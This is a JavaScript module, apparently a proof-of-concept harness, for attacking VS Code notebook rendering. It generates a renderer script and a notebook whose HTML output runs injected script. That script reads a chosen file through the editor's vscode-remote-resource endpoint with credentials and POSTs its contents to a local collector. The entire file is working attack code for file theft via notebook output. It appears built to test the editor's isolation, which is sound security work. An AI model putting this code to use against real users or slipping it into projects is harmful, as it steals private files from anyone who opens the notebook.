// A kernel brings scripts into the page of every notebook that it is chosen for, beside what others put out there; so
// does a notebook that was only written.
"use strict";
const fs = require("node:fs");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "notebook", {
    async preload({ collector, mark, workspace }, vscode) {
      const at = (name) => vscode.Uri.file(`${workspace}/.proof/notebook.${name}`);
      fs.writeFileSync(at("js").fsPath, `void fetch("https://${mark}.localhost:${collector}/");\nexport {};\n`);
      const cells = [{ cell_type: "markdown", metadata: {}, source: ["# x"] }, { cell_type: "code", metadata: {}, source: ["1"], outputs: [], execution_count: null }];
      fs.writeFileSync(at("ipynb").fsPath, JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 }));
      context.subscriptions.push(vscode.notebooks.createNotebookController("proof-kernel", "jupyter-notebook", "Proof", () => {}, [new vscode.NotebookRendererScript(at("js"))]));
      await vscode.window.showNotebookDocument(await vscode.workspace.openNotebookDocument(at("ipynb")));
      // The only one there is, so it is chosen.
      await vscode.commands.executeCommand("notebook.execute");
    },
    output({ collector, key, mark, workspace }) {
      const script = `(async () => {
        const editor = location.ancestorOrigins[location.ancestorOrigins.length - 1];
        const answer = await fetch(editor + location.pathname.split("/static/")[0] + "/vscode-remote-resource?path=${encodeURIComponent(key)}", { credentials: "include" });
        if (answer.ok) await fetch("http://127.0.0.1:${collector}/${mark}", { method: "POST", mode: "no-cors", body: await answer.text() });
      })()`;
      const html = [`<p>proof-output</p><script>${script}</script>`];
      const cell = { cell_type: "code", metadata: {}, source: ["1"], outputs: [{ output_type: "display_data", data: { "text/html": html }, metadata: {} }], execution_count: 1 };
      fs.writeFileSync(`${workspace}/report.ipynb`, JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 }));
    },
  });
